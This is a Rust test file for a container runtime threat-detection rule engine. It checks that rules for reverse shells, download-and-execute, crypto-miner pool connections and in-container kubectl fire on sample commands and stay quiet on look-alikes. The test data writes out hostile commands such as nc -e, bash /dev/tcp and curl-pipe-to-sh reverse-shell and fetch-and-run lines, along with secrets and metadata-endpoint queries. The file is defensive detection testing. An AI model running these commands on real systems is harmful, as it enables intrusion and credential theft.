use std::collections::BTreeMap;

use super::{spec::ProtocolName, *};

fn exec<'a>(binary: &'a str, args: &'a str, tty: bool, namespace: Option<&'a str>) -> Subject<'a> {
    Subject {
        binary: Some(binary),
        args: Some(args),
        tty: Some(tty),
        namespace,
        ..Subject::default()
    }
}

fn fired(rules: &RuleSet, trigger: Trigger, subject: &Subject<'_>) -> Vec<String> {
    rules
        .evaluate(trigger, subject)
        .map(|r| r.id.clone())
        .collect()
}

fn builtin() -> RuleSet {
    RuleSet::build(&RulesConfig::default()).unwrap()
}

/// (rule, what must fire it, a look-alike that must not).
#[expect(clippy::too_many_lines, reason = "a table of cases")]
fn exec_cases() -> Vec<(&'static str, Subject<'static>, Subject<'static>)> {
    vec![
        (
            "shell-in-container",
            exec("/bin/bash", "bash", true, Some("shop")),
            exec("/bin/bash", "bash -c date", false, Some("shop")),
        ),
        (
            "package-manager-in-container",
            exec(
                "/usr/bin/apt-get",
                "apt-get install -y nmap",
                false,
                Some("shop"),
            ),
            exec(
                "/usr/bin/apt-get",
                "apt-get update",
                false,
                Some("kube-system"),
            ),
        ),
        (
            "reverse-shell",
            exec("/usr/bin/nc", "nc -e /bin/sh 10.0.0.1 4444", false, None),
            exec("/usr/bin/nc", "nc -z 10.0.0.1 80", false, None),
        ),
        (
            "reverse-shell",
            exec(
                "/bin/bash",
                "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                false,
                None,
            ),
            exec("/bin/bash", "bash -c echo /dev/null", false, None),
        ),
        (
            "reverse-shell",
            exec(
                "/usr/bin/socat",
                "socat tcp:10.0.0.1:4444 exec:/bin/sh",
                false,
                None,
            ),
            exec(
                "/usr/bin/socat",
                "socat tcp-listen:8080 tcp:backend:80",
                false,
                None,
            ),
        ),
        (
            "reverse-shell",
            exec(
                "/usr/bin/python3",
                "python3 -c import socket,os,pty;s=socket.socket();pty.spawn('/bin/sh')",
                false,
                None,
            ),
            exec("/usr/bin/python3", "python3 -m http.server", false, None),
        ),
        (
            "download-and-execute",
            exec(
                "/bin/sh",
                "sh -c curl -s http://x.example/i.sh | sh",
                false,
                None,
            ),
            exec(
                "/bin/sh",
                "sh -c curl -s http://x.example/health",
                false,
                None,
            ),
        ),
        (
            "download-and-execute",
            exec(
                "/bin/sh",
                "sh -c wget http://x/m -O /tmp/m && chmod +x /tmp/m",
                false,
                None,
            ),
            exec("/bin/sh", "sh -c wget -q -O- http://x/metrics", false, None),
        ),
        (
            "exec-from-writable-dir",
            exec("/tmp/xmrig", "xmrig", false, None),
            exec(
                "/usr/local/bin/tmp-cleaner",
                "tmp-cleaner /tmp",
                false,
                None,
            ),
        ),
        (
            "exec-from-writable-dir",
            exec("/dev/shm/.x/payload", "payload", false, None),
            exec("/bin/ls", "ls /dev/shm", false, None),
        ),
        (
            "k8s-client-in-container",
            exec(
                "/usr/local/bin/kubectl",
                "kubectl get secrets -A",
                false,
                Some("shop"),
            ),
            exec(
                "/usr/local/bin/kubectl",
                "kubectl get pods",
                false,
                Some("kube-system"),
            ),
        ),
        (
            "k8s-client-in-container",
            exec("/usr/bin/crictl", "crictl ps", false, Some("shop")),
            exec("/usr/bin/cri-tools-docs", "x", false, Some("shop")),
        ),
    ]
}

#[test]
fn every_builtin_exec_rule_fires_and_its_look_alike_does_not() {
    let rules = builtin();
    for (rule, hit, miss) in exec_cases() {
        assert!(
            fired(&rules, Trigger::Exec, &hit).contains(&rule.to_owned()),
            "{rule} should fire for {hit:?}"
        );
        assert!(
            !fired(&rules, Trigger::Exec, &miss).contains(&rule.to_owned()),
            "{rule} should not fire for {miss:?}"
        );
    }
}

#[test]
fn miner_rule_fires_on_stratum_ports_only() {
    let rules = builtin();
    let to = |port| Subject {
        destination: Some(("203.0.113.5".parse().unwrap(), port, ProtocolName::Tcp)),
        ..Subject::default()
    };
    assert_eq!(
        fired(&rules, Trigger::Egress, &to(3333)),
        ["miner-pool-connection"]
    );
    assert!(fired(&rules, Trigger::Egress, &to(443)).is_empty());
    let udp = Subject {
        destination: Some(("203.0.113.5".parse().unwrap(), 3333, ProtocolName::Udp)),
        ..Subject::default()
    };
    assert!(
        fired(&rules, Trigger::Egress, &udp).is_empty(),
        "stratum is TCP"
    );
    assert!(
        fired(&rules, Trigger::Exec, &to(3333)).is_empty(),
        "egress rules do not judge execs"
    );
}

#[test]
fn unknown_identity_is_not_an_exception() {
    let rules = builtin();
    let unknown = exec("/usr/bin/kubectl", "kubectl get secrets", false, None);
    assert!(fired(&rules, Trigger::Exec, &unknown).contains(&"k8s-client-in-container".to_owned()));
}

#[test]
fn config_disables_adds_exceptions_and_custom_rules() {
    let config: RulesConfig = serde_saphyr::from_str(
        "disabled: [package-manager-in-container]\n\
         exceptions:\n  shell-in-container:\n  - namespace: ['debug-*']\n    labels: {team: sre}\n\
         custom:\n- id: curl-to-metadata\n  title: curl run\n  severity: low\n  on: exec\n  techniques: [T1552]\n  match:\n  - binary: [curl]\n    argsContain: ['169.254']\n",
    )
    .unwrap();
    let rules = RuleSet::build(&config).unwrap();
    let apt = exec("/usr/bin/apt", "apt install x", false, Some("shop"));
    assert!(fired(&rules, Trigger::Exec, &apt).is_empty(), "disabled");
    let labels: BTreeMap<String, String> = [("team".into(), "sre".into())].into();
    let mut shell = exec("/bin/sh", "sh", true, Some("debug-tools"));
    shell.labels = Some(&labels);
    assert!(
        fired(&rules, Trigger::Exec, &shell).is_empty(),
        "excepted namespace with label"
    );
    shell.labels = None;
    assert_eq!(
        fired(&rules, Trigger::Exec, &shell),
        ["shell-in-container"],
        "the exception needs both conditions"
    );
    let curl = exec("/usr/bin/curl", "curl http://169.254.169.254/", false, None);
    assert_eq!(fired(&rules, Trigger::Exec, &curl), ["curl-to-metadata"]);
}

#[test]
fn bad_rules_are_refused_with_the_place() {
    for (text, needle) in [
        ("disabled: [no-such-rule]\n", "no-such-rule"),
        ("exceptions:\n  nope: [{namespace: [x]}]\n", "nope"),
        (
            "custom:\n- {id: shell-in-container, title: t, severity: low, on: exec, match: [{binary: [x]}]}\n",
            "used twice",
        ),
        (
            "custom:\n- {id: a, title: t, severity: low, on: exec, match: [{}]}\n",
            "at least one condition",
        ),
        (
            "custom:\n- {id: a, title: t, severity: low, on: exec, match: [{port: [1]}]}\n",
            "port",
        ),
        (
            "custom:\n- {id: a, title: t, severity: low, on: egress, match: [{tty: true}]}\n",
            "tty",
        ),
        (
            "custom:\n- {id: a, title: t, severity: low, on: exec, match: [{argsRegex: '('}]}\n",
            "argsRegex",
        ),
        (
            "custom:\n- {id: a, title: t, severity: low, on: exec, match: [{binary: ['[']}]}\n",
            "binary",
        ),
    ] {
        let config: RulesConfig = serde_saphyr::from_str(text).unwrap();
        let err = RuleSet::build(&config).unwrap_err();
        assert!(err.contains(needle), "{text:?}: {err}");
    }
}
